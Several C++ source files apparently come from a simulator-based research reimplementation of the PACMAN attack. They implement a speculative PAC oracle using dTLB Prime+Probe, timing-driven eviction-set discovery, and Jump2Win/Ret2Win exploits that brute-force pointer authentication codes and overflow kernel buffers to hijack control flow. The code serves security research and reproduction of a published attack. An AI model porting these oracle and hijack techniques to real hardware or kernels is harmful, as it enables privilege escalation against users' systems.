        return probeOnce(guessed_pac, nullptr);

    // Self-healing path: retry queries the sanity check flags as
    // disturbed, with backoff between attempts; the last attempt's
    // answer stands either way.
    unsigned misses = 0;
    for (unsigned attempt = 0;; ++attempt) {
        bool disturbed = false;
        misses = probeOnce(guessed_pac, &disturbed);
        if (!disturbed || attempt >= cfg_.queryRetries)
            break;
        ++stats_.retriedQueries;
        backoff(attempt);
    }
    return misses;
}

unsigned
PacOracle::probeOnce(uint16_t guessed_pac, bool *disturbed)
{
    const uint16_t gadget = gadgetSyscall();

    proc_.machine().injectNoise();

    // (1) Train the guard branch (and BTB) with the legit pointer.
    train();

    // (2) Disarm the architectural path.
    proc_.syscall(SYS_SET_COND, 0);

    // (3) Reset: open the speculation window.
    if (!cfg_.skipReset)
        proc_.loadAll(resetList_);

    // (4) Prime the target's dTLB set.
    proc_.loadAll(primeList_);

    // Plant the canary alongside the prime: anything that flushes or
    // skews measurements between here and the probe hits it too —
    // but its set is quiet, so the query itself never evicts it.
    if (disturbed)
        proc_.loadAll({canaryAddr_});

    proc_.machine().injectNoise();

    // (5) Fire the gadget with the guessed signed pointer, retrying
    // transient busy errors within the budget. A busy call is not
    // free: its own mispredicted busy-check branch speculatively runs
    // the gadget prologue and refills the reset-evicted cond
    // translation, so a bare refire would find the speculation window
    // already closed. Each retry therefore replays the recipe from
    // the reset step.
    const uint64_t guess_ptr = isa::withExt(target_, guessed_pac);
    uint64_t ret = proc_.syscall(gadget, guess_ptr);
    ++queries_;
    for (unsigned b = 0;
         ret == SyscallBusy && b < cfg_.busyRetries; ++b) {
        ++stats_.busyRetries;
        if (!cfg_.skipReset)
            proc_.loadAll(resetList_);
        proc_.loadAll(primeList_);
        if (disturbed)
            proc_.loadAll({canaryAddr_});
        ret = proc_.syscall(gadget, guess_ptr);
        ++queries_;
    }
    const bool gadget_ran = ret != SyscallBusy;

    // (6) Instruction-fetch gadgets: spill the (possibly) filled
    // kernel iTLB entry into the shared dTLB.
    if (cfg_.kind != GadgetKind::Data) {
        for (uint64_t idx : trampIndices_)
            proc_.syscall(SYS_FETCH_TRAMP, idx);
    }

    // (7) Probe.
    unsigned misses = 0;
    for (uint64_t count : proc_.probeAll(primeList_)) {
        if (count > cfg_.latencyThreshold)
            ++misses;
    }

    // (8) Sanity check: the canary must still read as a healthy hit.
    // A high delta means its translation was flushed or the latency
    // regime shifted; a zero delta means the timer was stalled; a
    // busy-exhausted gadget means the window never opened at all.
    if (disturbed) {
        const double canary = double(proc_.timedLoad(canaryAddr_));
        if (!gadget_ran || !healthyHit(canary)) {
            *disturbed = true;
            ++stats_.disturbedQueries;
        }
    }
    return misses;
}

void
PacOracle::backoff(unsigned attempt)
{
    // Idle exponentially (NOP syscalls burn real simulated cycles)
    // so transient bursts — timer stalls, jitter bursts, the tail of
    // a preemption — expire before the retry.
    for (unsigned i = 0; i < (8u << std::min(attempt, 4u)); ++i)
        proc_.syscall(SYS_NOP);

    // Escalate from the second attempt on: if the prime list no
    // longer reads back healthy the disturbance was not transient —
    // recalibrate (migration moved the latency regime) and rebuild
    // the derived sets.
    if (attempt >= 1 && !verifyEvictionSets()) {
        if (cfg_.autoCalibrate)
            calibrate();
        repairEvictionSets();
    }
}

bool
PacOracle::testPac(uint16_t guessed_pac)
{
    return probeMisses(guessed_pac) >= cfg_.missThreshold;
}

double
PacOracle::sampledMisses(uint16_t guessed_pac, unsigned samples)
{
    PACMAN_ASSERT(samples >= 1, "need at least one sample");
    SampleStat misses;
    for (unsigned i = 0; i < samples; ++i)
        misses.add(double(probeMisses(guessed_pac)));
    return misses.median();
}

bool
PacOracle::testPacSampled(uint16_t guessed_pac, unsigned samples)
{
    return sampledMisses(guessed_pac, samples) >= cfg_.missThreshold;
}

} // namespace pacman::attack
