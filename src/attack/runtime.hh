/**
 * @file
 * The attacker's userspace runtime.
 *
 * All measurement and hierarchy manipulation is performed by genuine
 * EL0 guest code (assembled once at construction); the host-side C++
 * only orchestrates — mirroring the paper's attacker: a C program
 * with small assembly primitives. Primitives provided:
 *
 *  - syscalls with arbitrary arguments,
 *  - timed single loads via the multi-thread counter or PMC0,
 *  - bulk load loops over address lists (prime / reset / sweep),
 *  - per-access timed probe loops writing latencies to an out array,
 *  - indirect fetches into the JIT region (instruction experiments).
 */

#ifndef PACMAN_ATTACK_RUNTIME_HH
#define PACMAN_ATTACK_RUNTIME_HH

#include <cstdint>
#include <functional>
#include <vector>

#include "base/supervision.hh"
#include "kernel/machine.hh"

namespace pacman::attack
{

using isa::Addr;
using kernel::Machine;

/** An EL0 process with the attack primitives loaded. */
class AttackerProcess
{
  public:
    explicit AttackerProcess(Machine &machine);

    Machine &machine() { return machine_; }

    // --- Syscalls ---

    /** Invoke syscall @p num with up to three arguments; returns x0. */
    uint64_t syscall(uint16_t num, uint64_t a0 = 0, uint64_t a1 = 0,
                     uint64_t a2 = 0);

    // --- Timed accesses ---

    /** Load @p va once; return the multi-thread-counter delta. */
    uint64_t timedLoad(Addr va);

    /** Load @p va once; return the PMC0 (cycle) delta. Requires the
     *  reverse-engineering kext to have granted EL0 access. */
    uint64_t timedLoadPmc(Addr va);

    // --- Bulk operations ---

    /** Load every address in @p addrs (prime / reset / fill). */
    void loadAll(const std::vector<Addr> &addrs);

    /**
     * Probe: load every address, timing each with the multi-thread
     * counter; returns the per-access counts.
     *
     * The result references per-process scratch reused by the next
     * probeAll() call — iterate or copy before probing again. (The
     * oracle probes on every query; returning by value would allocate
     * on the attack's hottest host-side path.)
     */
    const std::vector<uint64_t> &probeAll(const std::vector<Addr> &addrs);

    /** Branch to @p va (target must contain a `ret`). */
    void fetchAt(Addr va);

    /** Branch to every address in @p addrs in order. */
    void fetchAllAt(const std::vector<Addr> &addrs);

    // --- Raw counter reads (Table 1) ---

    /** Read CNTPCT_EL0 from EL0 (always permitted). */
    uint64_t readCntpct();

    /** Attempt an EL0 read of PMC0; exit status tells if it trapped. */
    cpu::ExitStatus tryReadPmc0(uint64_t *value);

    // --- Memory management ---

    /** Map (if needed) the page containing @p va as user data. */
    void ensureMapped(Addr va);

    /** Map an executable user page and plant a `ret` stub at @p va. */
    void plantRetStub(Addr va);

    /**
     * Scratch page @p index (0..255) in the user data area; page
     * index i maps to dTLB set i, letting callers place argument
     * arrays away from the set under probe.
     */
    Addr scratchPage(unsigned index) const;

    /** Relocate the argument arrays used by loadAll/probeAll. */
    void placeArrays(unsigned list_page, unsigned out_page);

    /** dTLB sets occupied by runtime infrastructure for a given
     *  configuration (callers must not probe these). */
    std::vector<uint64_t> reservedDtlbSets() const;

    // --- Supervision / recovery (DESIGN.md §4g) ---

    /**
     * Integrity self-check for the recovery ladder: every assembled
     * routine entry point must still be mapped and hold a non-zero
     * instruction word, and the argument arrays must point into the
     * scratch area. A replica whose code pages were lost or zeroed
     * (checkpoint corruption, a bad restore) fails here before the
     * supervisor wastes a retry on it.
     */
    bool verifyRoutines() const;

    /**
     * Register a hook the campaign supervisor invokes after it
     * recovers this process's replica (restore-retry or full
     * re-provision), with the classified fault and the ladder rung
     * that succeeded (1 = restore, 2 = re-provision). Lets the attack
     * layer react — e.g. schedule a recalibration — without the
     * runner depending on attack internals. Pass nullptr to detach.
     * Host wiring: deliberately not part of the snapshot.
     */
    void
    setRecoveryHook(
        std::function<void(WorkerFaultKind, unsigned)> hook)
    {
        recoveryHook_ = std::move(hook);
    }

    /** Invoke the recovery hook, if any (supervisor side). */
    void
    notifyRecovery(WorkerFaultKind kind, unsigned rung)
    {
        if (recoveryHook_)
            recoveryHook_(kind, rung);
    }

    /**
     * Host-side mutable state. The assembled routines and their guest
     * pages are captured by the Machine snapshot (they live in
     * simulated memory); only the argument-array placement is host
     * state that placeArrays() can move after construction. The
     * probeAll scratch is overwritten before every read, so it needs
     * no capture.
     */
    struct Snapshot
    {
        Addr listArray = 0;
        Addr outArray = 0;
    };

    Snapshot takeSnapshot() const { return {listArray_, outArray_}; }

    void restore(const Snapshot &snap)
    {
        listArray_ = snap.listArray;
        outArray_ = snap.outArray;
    }

  private:
    void buildRoutines();
    void writeList(const std::vector<Addr> &addrs);

    Machine &machine_;
    Addr rSyscall_ = 0;
    Addr rTimedLoad_ = 0;
    Addr rTimedLoadPmc_ = 0;
    Addr rLoadList_ = 0;
    Addr rProbeList_ = 0;
    Addr rFetchAt_ = 0;
    Addr rFetchList_ = 0;
    Addr rReadCntpct_ = 0;
    Addr rReadPmc0_ = 0;
    Addr listArray_ = 0;
    Addr outArray_ = 0;
    std::vector<uint64_t> probeScratch_; //!< probeAll result storage
    std::function<void(WorkerFaultKind, unsigned)> recoveryHook_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_RUNTIME_HH
