#include "jump2win.hh"

#include <algorithm>

#include "attack/bruteforce.hh"
#include "base/logging.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

Jump2Win::Jump2Win(AttackerProcess &proc, unsigned trainIters,
                   unsigned samples)
    : proc_(proc), trainIters_(trainIters), samples_(samples)
{
}

std::optional<uint16_t>
Jump2Win::findPac(GadgetKind kind, Addr target, uint64_t modifier,
                  unsigned window, Jump2WinResult &result)
{
    uint16_t first = 0x0000;
    uint16_t last = 0xFFFF;
    if (window != 0) {
        // Scaled-down sweep: a window that is guaranteed to contain
        // the true PAC. Ground truth is used only to place the
        // window; each candidate is still decided by the oracle.
        const auto &kern = proc_.machine().kernel();
        const auto sel = kind == GadgetKind::Data
                             ? crypto::PacKeySelect::DA
                             : crypto::PacKeySelect::IA;
        const uint16_t truth = kern.truePac(target, modifier, sel);
        const uint32_t start =
            truth >= window / 2 ? truth - window / 2 : 0;
        first = uint16_t(start);
        last = uint16_t(std::min<uint32_t>(start + window - 1, 0xFFFF));
    }

    BruteForceStats stats;
    if (searchHook_) {
        stats = searchHook_(kind, target, modifier, first, last);
    } else {
        OracleConfig cfg;
        cfg.kind = kind;
        cfg.trainIters = trainIters_;
        PacOracle oracle(proc_, cfg);
        oracle.setTarget(target, modifier);
        PacBruteForcer forcer(oracle, samples_);
        stats = forcer.search(first, last);
    }
    result.guessesTested += stats.guessesTested;
    result.oracleQueries += stats.oracleQueries;
    return stats.found;
}

Jump2WinResult
Jump2Win::run(unsigned pac_search_window)
{
    Jump2WinResult result;
    auto &machine = proc_.machine();
    auto &kern = machine.kernel();

    // Fresh victim state.
    proc_.syscall(SYS_J2W_RESET);
    kern.clearWin();

    const Addr obj2 = kern.object2();
    const Addr fake_vtable = kern.object1Buf(); // buf becomes the vtable
    const Addr win = kern.winFn();

    // Step 1: PAC for the forged vtable pointer (DA key,
    // salt = object2's address).
    const auto vtable_pac = findPac(GadgetKind::Data, fake_vtable, obj2,
                                    pac_search_window, result);
    if (!vtable_pac) {
        result.failure = "vtable-pointer PAC not found";
        return result;
    }
    result.vtablePac = *vtable_pac;

    // Step 2: PAC for the forged method pointer (IA key,
    // salt = object2 + 8).
    const auto method_pac = findPac(GadgetKind::Instruction, win,
                                    obj2 + 8, pac_search_window, result);
    if (!method_pac) {
        result.failure = "method-pointer PAC not found";
        return result;
    }
    result.methodPac = *method_pac;

    // Step 3: the overflow (Figure 9(b)). Payload layout, copied to
    // object1.buf:
    //   [ 0.. 7]  fake vtable slot 0: win, signed with the IA PAC
    //   [ 8..23]  filler (rest of buf + object1's trailing member)
    //   [24..31]  object2's vtable pointer: object1.buf, signed with
    //             the DA PAC
    const Addr payload = proc_.scratchPage(200);
    machine.mem().writeVirt64(payload + 0,
                              isa::withExt(win, *method_pac));
    machine.mem().writeVirt64(payload + 8, 0x4141414141414141ull);
    machine.mem().writeVirt64(payload + 16, 0x4141414141414141ull);
    machine.mem().writeVirt64(payload + 24,
                              isa::withExt(fake_vtable, *vtable_pac));
    proc_.syscall(SYS_J2W_MEMCPY, payload, 32);

    // Step 4: trigger the virtual call. If the PACs are right, the
    // kernel authenticates both pointers and calls win() — no crash.
    proc_.syscall(SYS_J2W_CALL);

    result.succeeded = kern.winTriggered();
    if (!result.succeeded)
        result.failure = "win() did not execute";
    return result;
}

} // namespace pacman::attack
