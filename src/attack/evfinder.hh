/**
 * @file
 * Dynamic eviction-set discovery.
 *
 * The paper derives its eviction strides from reverse engineering
 * (Section 7). This component implements the complementary, purely
 * timing-driven approach real attackers use when no formula is known:
 * start from a pool guaranteed to contain a conflicting superset
 * (e.g. a large contiguous mapping) and reduce it by group testing to
 * a minimal eviction set — while never consulting the simulator's
 * internals, only guest-visible load latencies (the kext-exposed
 * cycle counter, as in the paper's reverse-engineering setup).
 */

#ifndef PACMAN_ATTACK_EVFINDER_HH
#define PACMAN_ATTACK_EVFINDER_HH

#include <cstdint>
#include <optional>
#include <vector>

#include "attack/runtime.hh"

namespace pacman::attack
{

/** Timing-driven eviction-set finder. */
class EvictionFinder
{
  public:
    /**
     * @param proc          Attacker process; PMC0 must already be
     *                      EL0-exposed (RevEng::enablePmc).
     * @param pmc_threshold Reload latency (cycles) above which the
     *                      victim's translation counts as evicted.
     *                      85 sits between the L2-cache-hit plateau
     *                      (~79) and the dTLB-miss plateau (~94), so
     *                      cache pollution from the pool cannot fake
     *                      a TLB eviction.
     */
    explicit EvictionFinder(AttackerProcess &proc,
                            uint64_t pmc_threshold = 85);

    /**
     * True if loading @p candidates after @p victim evicts the
     * victim's dTLB entry (measured, not computed).
     */
    bool evicts(const std::vector<Addr> &candidates, Addr victim);

    /**
     * Group-testing reduction: shrink @p candidates to a minimal
     * eviction set of @p target_ways addresses for @p victim.
     *
     * @return the minimal set, or nullopt if reduction stalls (the
     *         pool did not contain enough conflicting addresses).
     */
    std::optional<std::vector<Addr>>
    reduce(std::vector<Addr> candidates, Addr victim,
           unsigned target_ways);

    /**
     * End-to-end discovery for the L1 dTLB: allocate a contiguous
     * pool of (ways + 1) * sets pages — guaranteed to contain
     * ways + 1 aliases of any page — and reduce it.
     */
    std::optional<std::vector<Addr>> findDtlbEvictionSet(Addr victim);

    /** Timed evicts() probes performed so far (cost accounting). */
    uint64_t probes() const { return probes_; }

  private:
    /** Load all candidates in page-sized list chunks. */
    void loadChunked(const std::vector<Addr> &addrs);

    AttackerProcess &proc_;
    uint64_t threshold_;
    uint64_t probes_ = 0;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_EVFINDER_HH
