#include "reveng.hh"

#include "base/logging.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

const char *
latencyClassName(LatencyClass cls)
{
    switch (cls) {
      case LatencyClass::L1Hit: return "L1D hit / dTLB hit";
      case LatencyClass::L2CacheHit: return "L2 hit / dTLB hit";
      case LatencyClass::DtlbMiss: return "dTLB miss / L2 TLB hit";
      case LatencyClass::L2TlbMiss: return "L2 TLB miss (walk)";
      default: panic("bad latency class");
    }
}

RevEng::RevEng(AttackerProcess &proc)
    : proc_(proc), evsets_(proc.machine()), threshold_(30)
{
}

void
RevEng::enablePmc()
{
    proc_.syscall(SYS_ENABLE_PMC_EL0);
}

std::vector<SweepPoint>
RevEng::dataSweep(uint64_t stride, unsigned max_n, unsigned samples,
                  bool cache_safe)
{
    // Base target x in the eviction arena, in dTLB set 77 so it
    // cannot collide with the argument arrays; a fresh cache-line
    // offset per stride keeps strides independent.
    const Addr x = EvictionArena + 77 * isa::PageSize +
                   (stride % 128) * 64 + 0x340;
    proc_.placeArrays(unsigned((77 + 100) % 256),
                      unsigned((77 + 101) % 256));
    proc_.ensureMapped(x);

    std::vector<SweepPoint> out;
    for (unsigned n = 1; n <= max_n; ++n) {
        const auto addrs = evsets_.sweepSet(x, stride, n, cache_safe);
        SampleStat lat;
        for (unsigned s = 0; s < samples; ++s) {
            proc_.timedLoadPmc(x);   // (1) bring x in
            proc_.loadAll(addrs);    // (2) potential eviction set
            lat.add(double(proc_.timedLoadPmc(x))); // (3) reload
        }
        out.push_back({n, lat.median()});
    }
    return out;
}

std::vector<SweepPoint>
RevEng::instSweep(uint64_t stride, unsigned max_n, unsigned samples)
{
    // x lives in the JIT region (dTLB set 53, clear of the argument
    // arrays) and holds a ret stub so it can be branched to (step 2)
    // and also loaded as data (step 4).
    const Addr x = JitBase + 53 * isa::PageSize + (stride % 128) * 64;
    proc_.placeArrays(unsigned((53 + 100) % 256),
                      unsigned((53 + 101) % 256));
    proc_.plantRetStub(x);

    // Step (1)'s reset set: evict x's translation from the data TLBs.
    const auto reset = evsets_.l2tlbSet(evsets_.l2tlbSetOf(x),
                                        evsets_.l2tlbWays());

    std::vector<SweepPoint> out;
    for (unsigned n = 1; n <= max_n; ++n) {
        // Branch targets at the probed stride; each needs a stub.
        std::vector<Addr> targets;
        for (unsigned i = 1; i <= n; ++i) {
            const Addr t = x + uint64_t(i) * stride + uint64_t(i) * 128;
            proc_.plantRetStub(t);
            targets.push_back(t);
        }
        SampleStat lat;
        for (unsigned s = 0; s < samples; ++s) {
            proc_.loadAll(reset);      // (1) reset dTLB + L2 TLB
            proc_.fetchAt(x);          // (2) fetch x into the iTLB
            proc_.fetchAllAt(targets); // (3) instruction eviction set
            lat.add(double(proc_.timedLoadPmc(x))); // (4) reload
        }
        out.push_back({n, lat.median()});
    }
    return out;
}

void
RevEng::prepareClass(LatencyClass cls, Addr x)
{
    switch (cls) {
      case LatencyClass::L1Hit:
        // x stays resident everywhere.
        break;
      case LatencyClass::L2CacheHit: {
        // Evict x's L1D line with same-cache-set lines in *other*
        // pages (4 lines suffice at the observed associativity);
        // the handful of extra dTLB entries land in other sets.
        const auto &l1d = proc_.machine().mem().config().l1d;
        const uint64_t way_span = uint64_t(l1d.sets) * l1d.lineBytes;
        std::vector<Addr> lines;
        for (unsigned i = 1; i <= l1d.ways + 1; ++i)
            lines.push_back(x + uint64_t(i) * way_span);
        proc_.loadAll(lines);
        break;
      }
      case LatencyClass::DtlbMiss:
        proc_.loadAll(evsets_.dtlbSet(evsets_.dtlbSetOf(x),
                                      evsets_.dtlbWays()));
        break;
      case LatencyClass::L2TlbMiss:
        proc_.loadAll(evsets_.l2tlbSet(evsets_.l2tlbSetOf(x),
                                       evsets_.l2tlbWays()));
        break;
    }
}

SampleStat
RevEng::measureClass(LatencyClass cls, TimerKind timer,
                     unsigned samples)
{
    // x aliases dTLB set 64 but is 13 * 256 pages past the arena
    // slots dtlbSet() hands out, so the eviction set never contains
    // x's own page.
    const Addr x = EvictionArena +
                   (64 + 13 * 256) * isa::PageSize + 0x340;
    proc_.ensureMapped(x);

    SampleStat stat;
    for (unsigned s = 0; s < samples; ++s) {
        proc_.timedLoad(x); // bring x fully in
        prepareClass(cls, x);
        const uint64_t v = timer == TimerKind::Pmc
                               ? proc_.timedLoadPmc(x)
                               : proc_.timedLoad(x);
        stat.add(double(v));
    }
    return stat;
}

bool
RevEng::kernelDataEvictsUserDtlb()
{
    // Prime the dTLB set of a benign-data page from EL0, have the
    // kernel touch pages in the same set, then probe: misses mean the
    // L1 dTLB is shared across privilege levels.
    const Addr kpage = BenignDataBase + 7 * isa::PageSize;
    const uint64_t set = evsets_.dtlbSetOf(kpage);
    proc_.placeArrays(unsigned((set + 100) % 256),
                      unsigned((set + 101) % 256));
    const auto prime = evsets_.dtlbSet(set, evsets_.dtlbWays());

    proc_.loadAll(prime);
    // Kernel-side accesses to the same set: benign pages are
    // contiguous, so pages set, set+256... only page 7 aliases within
    // the 64-page window; touch it repeatedly plus neighbours.
    for (unsigned i = 0; i < 4; ++i)
        proc_.syscall(SYS_TOUCH_DATA, 7 * isa::PageSize + i * 64);

    unsigned misses = 0;
    for (uint64_t count : proc_.probeAll(prime)) {
        if (count > threshold_)
            ++misses;
    }
    return misses > 0;
}

unsigned
RevEng::kernelIfetchSpillThreshold()
{
    // Fetch k trampolines in one kernel iTLB set, probing after each
    // batch whether a spilled translation evicted a primed user dTLB
    // entry. The paper's finding: nothing for k <= ways, spill at
    // k = ways + 1 (entries displaced into the backing dTLB).
    const unsigned ways = evsets_.itlbWays();
    const uint64_t itlb_set = 9; // arbitrary non-infrastructure set
    for (unsigned k = 1; k <= ways + 1; ++k) {
        const auto idxs = evsets_.trampolineIndicesFor(itlb_set, k);
        // The k-th trampoline page's dTLB set is its page index mod
        // 256; probe the set of the *first* page, which is the one
        // evicted first.
        const uint64_t probe_set = evsets_.dtlbSetOf(
            TrampolineBase + idxs.front() * isa::PageSize);
        proc_.placeArrays(unsigned((probe_set + 100) % 256),
                          unsigned((probe_set + 101) % 256));
        const auto prime = evsets_.dtlbSet(probe_set,
                                           evsets_.dtlbWays());
        proc_.loadAll(prime);
        for (uint64_t idx : idxs)
            proc_.syscall(SYS_FETCH_TRAMP, idx);
        unsigned misses = 0;
        for (uint64_t count : proc_.probeAll(prime)) {
            if (count > threshold_)
                ++misses;
        }
        if (misses > 0)
            return k;
    }
    return 0;
}

} // namespace pacman::attack
