#include "ret2win.hh"

#include <algorithm>

#include "attack/bruteforce.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

Ret2Win::Ret2Win(AttackerProcess &proc, unsigned trainIters,
                 unsigned samples)
    : proc_(proc), trainIters_(trainIters), samples_(samples)
{
}

Ret2WinResult
Ret2Win::run(unsigned pac_search_window)
{
    Ret2WinResult result;
    auto &machine = proc_.machine();
    auto &kern = machine.kernel();
    kern.clearWin();

    const Addr win = kern.winFn();
    // The victim signs its return address with SP at function entry;
    // the kernel stack placement is deterministic (known layout, the
    // paper's threat model).
    const uint64_t modifier = KernelStackTop;

    OracleConfig cfg;
    cfg.kind = GadgetKind::Instruction;
    cfg.trainIters = trainIters_;
    PacOracle oracle(proc_, cfg);
    oracle.setTarget(win, modifier);
    PacBruteForcer forcer(oracle, samples_);

    uint16_t first = 0x0000;
    uint16_t last = 0xFFFF;
    if (pac_search_window != 0) {
        const uint16_t truth = kern.truePac(
            win, modifier, crypto::PacKeySelect::IA);
        const uint32_t start = truth >= pac_search_window / 2
                                   ? truth - pac_search_window / 2
                                   : 0;
        first = uint16_t(start);
        last = uint16_t(std::min<uint32_t>(
            start + pac_search_window - 1, 0xFFFF));
    }
    const BruteForceStats stats = forcer.search(first, last);
    result.guessesTested = stats.guessesTested;
    if (!stats.found) {
        result.failure = "return-address PAC not found";
        return result;
    }
    result.returnPac = *stats.found;

    // Overflow: 32 filler bytes reach the saved return address; the
    // 8 bytes after it become the forged signed pointer.
    const Addr payload = proc_.scratchPage(202);
    for (unsigned i = 0; i < 4; ++i)
        machine.mem().writeVirt64(payload + 8 * i,
                                  0x4141414141414141ull);
    machine.mem().writeVirt64(payload + 32,
                              isa::withExt(win, *stats.found));
    proc_.syscall(SYS_R2W_CALL, payload, 40);

    result.succeeded = kern.winTriggered();
    if (!result.succeeded)
        result.failure = "win() did not execute";
    return result;
}

} // namespace pacman::attack
