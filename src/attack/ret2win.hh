/**
 * @file
 * Ret2Win: the return-address flavour of the PACMAN hijack.
 *
 * The victim kext protects its return address exactly as the paper's
 * Figure 2 shows (pacia lr, sp / ... / autia lr, sp; ret) and
 * contains a stack buffer overflow. The attack brute-forces
 * PAC_IA(win, salt = the function's entry SP) through the crash-free
 * oracle, overflows the saved return address with the forged signed
 * pointer, and the epilogue's own authentication ushers control into
 * win() — the ROP scenario Pointer Authentication was built to stop.
 */

#ifndef PACMAN_ATTACK_RET2WIN_HH
#define PACMAN_ATTACK_RET2WIN_HH

#include <cstdint>
#include <string>

#include "attack/oracle.hh"

namespace pacman::attack
{

/** Outcome of the return-address hijack. */
struct Ret2WinResult
{
    bool succeeded = false;
    uint16_t returnPac = 0;   //!< brute-forced IA PAC
    uint64_t guessesTested = 0;
    std::string failure;
};

/** Ret2Win driver. */
class Ret2Win
{
  public:
    explicit Ret2Win(AttackerProcess &proc, unsigned trainIters = 8,
                     unsigned samples = 1);

    /**
     * Run the attack. @p pac_search_window as in Jump2Win::run: 0
     * sweeps the full 16-bit space; otherwise a window guaranteed to
     * contain the true PAC (placement only; decisions come from the
     * oracle).
     */
    Ret2WinResult run(unsigned pac_search_window = 0);

  private:
    AttackerProcess &proc_;
    unsigned trainIters_;
    unsigned samples_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_RET2WIN_HH
