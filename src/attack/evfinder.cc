#include "evfinder.hh"

#include "base/logging.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using isa::PageSize;

EvictionFinder::EvictionFinder(AttackerProcess &proc,
                               uint64_t pmc_threshold)
    : proc_(proc), threshold_(pmc_threshold)
{
}

void
EvictionFinder::loadChunked(const std::vector<Addr> &addrs)
{
    // The guest argument list holds one page of pointers; larger
    // candidate pools are streamed in chunks (order is irrelevant
    // for the presence test).
    constexpr size_t chunk = PageSize / 8;
    for (size_t base = 0; base < addrs.size(); base += chunk) {
        const size_t n = std::min(chunk, addrs.size() - base);
        proc_.loadAll({addrs.begin() + long(base),
                       addrs.begin() + long(base + n)});
    }
}

bool
EvictionFinder::evicts(const std::vector<Addr> &candidates, Addr victim)
{
    ++probes_;
    proc_.ensureMapped(victim);
    proc_.timedLoadPmc(victim); // bring the translation in
    loadChunked(candidates);
    return proc_.timedLoadPmc(victim) > threshold_;
}

std::optional<std::vector<Addr>>
EvictionFinder::reduce(std::vector<Addr> candidates, Addr victim,
                       unsigned target_ways)
{
    if (!evicts(candidates, victim))
        return std::nullopt;

    // Vila-style group testing: split into target_ways + 1 groups
    // and drop a group whose removal preserves eviction. With only
    // target_ways conflicting addresses needed, some group must be
    // redundant — but a coarse split can scatter the needed
    // addresses across every group, so on a stall the granularity
    // is refined (down to singletons) before giving up.
    while (candidates.size() > target_ways) {
        unsigned groups =
            unsigned(std::min<size_t>(target_ways + 1,
                                      candidates.size()));
        bool dropped = false;
        while (!dropped) {
            const size_t group_size =
                (candidates.size() + groups - 1) / groups;
            for (unsigned g = 0; g < groups && !dropped; ++g) {
                std::vector<Addr> without;
                without.reserve(candidates.size());
                for (size_t i = 0; i < candidates.size(); ++i) {
                    if (i / group_size != g)
                        without.push_back(candidates[i]);
                }
                // Uneven splits can leave trailing groups empty;
                // removing one would be a no-op.
                if (without.size() == candidates.size())
                    continue;
                if (evicts(without, victim)) {
                    candidates = std::move(without);
                    dropped = true;
                }
            }
            if (!dropped) {
                if (group_size == 1) {
                    // Even singletons are all load-bearing: the set
                    // is minimal but larger than target_ways.
                    return std::nullopt;
                }
                groups = unsigned(std::min<size_t>(
                    size_t(groups) * 2, candidates.size()));
            }
        }
    }
    if (!evicts(candidates, victim))
        return std::nullopt;
    return candidates;
}

std::optional<std::vector<Addr>>
EvictionFinder::findDtlbEvictionSet(Addr victim)
{
    const auto &cfg = proc_.machine().mem().config().dtlb;
    // A contiguous region of (ways + 1) * sets pages contains
    // exactly ways + 1 pages aliasing any given set — enough to
    // evict with one to spare. (An attacker simply mmaps a large
    // buffer.)
    constexpr Addr pool_base =
        kernel::EvictionArena + (1ull << 35); // +32 GB window
    std::vector<Addr> pool;
    pool.reserve(size_t(cfg.ways + 1) * cfg.sets);
    for (unsigned i = 0; i < (cfg.ways + 1) * cfg.sets; ++i)
        pool.push_back(pool_base + uint64_t(i) * PageSize);
    return reduce(std::move(pool), victim, cfg.ways);
}

} // namespace pacman::attack
