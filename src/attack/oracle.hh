/**
 * @file
 * The PAC oracle (paper Section 8.1): distinguish a correct PAC from
 * an incorrect one for an attacker-chosen (pointer, modifier) pair —
 * without ever architecturally using the pointer, hence without any
 * crash risk.
 *
 * One oracle query runs the paper's recipe:
 *
 *  1. train the gadget's guard branch (and, for the instruction
 *     gadget, the BTB) with a legitimately signed pointer;
 *  2. arm: cond <- 0 so the architectural path skips the gadget body;
 *  3. reset: evict the guard-condition page's translation (23 loads
 *     in its L2 TLB set), opening a long speculation window;
 *  4. prime the target page's dTLB set (12 loads);
 *  5. fire the gadget syscall with the guessed signed pointer; the
 *     gadget speculatively authenticates and dereferences it;
 *  6. (instruction gadget only) evict the kernel iTLB set with 4
 *     trampoline fetches so a filled translation spills into the
 *     shared dTLB;
 *  7. probe the dTLB set and count misses: a correct PAC leaves a
 *     kernel translation in the primed set, an incorrect PAC leaves
 *     nothing.
 */

#ifndef PACMAN_ATTACK_ORACLE_HH
#define PACMAN_ATTACK_ORACLE_HH

#include <cstdint>
#include <optional>

#include "attack/eviction.hh"
#include "attack/runtime.hh"

namespace pacman::attack
{

/** Which PACMAN gadget the oracle drives. */
enum class GadgetKind
{
    Data,        //!< aut + load   (Figure 3(a))
    Instruction, //!< aut + blr    (Figure 3(b))
    Combined,    //!< blraa: verification + transmission in one
                 //!< ARMv8.3 instruction (extension)
};

/**
 * Which micro-architectural structure carries the transmission
 * (Section 4.1: the attack works over many side channels; the paper's
 * PoCs use the TLB, and the cache variant is provided to demonstrate
 * the generality claim).
 */
enum class Channel
{
    DtlbSet, //!< the paper's shared-L1-dTLB Prime+Probe
    L1dSet,  //!< L1 data-cache set Prime+Probe (data gadget only)
};

/** Oracle tuning parameters. */
struct OracleConfig
{
    GadgetKind kind = GadgetKind::Data;

    /** Transmission channel; L1dSet requires the data gadget. */
    Channel channel = Channel::DtlbSet;

    /**
     * Branch-training iterations before each query. The paper uses
     * 64 (Section 8.1); this default is a deliberately scaled-down 8
     * so the test suite stays fast — the simulated bimodal predictor
     * saturates well before 64 iterations. The bench binaries
     * (fig8_oracle, sec82_bruteforce) default to the paper's 64.
     */
    unsigned trainIters = 8;

    /** Multi-thread-counter threshold separating dTLB hit from miss
     *  (paper Section 7.4: 30). Overwritten by the measured value
     *  when autoCalibrate is set. */
    uint64_t latencyThreshold = 30;

    /** Probe misses at or above this count a correct PAC
     *  (paper Figure 8: correct >= 5, incorrect <= 1). */
    unsigned missThreshold = 3;

    // --- Self-healing knobs (all off by default: the legacy
    //     fixed-threshold path, including its exact RNG draw
    //     sequence, is preserved bit-for-bit when these are 0) ---

    /**
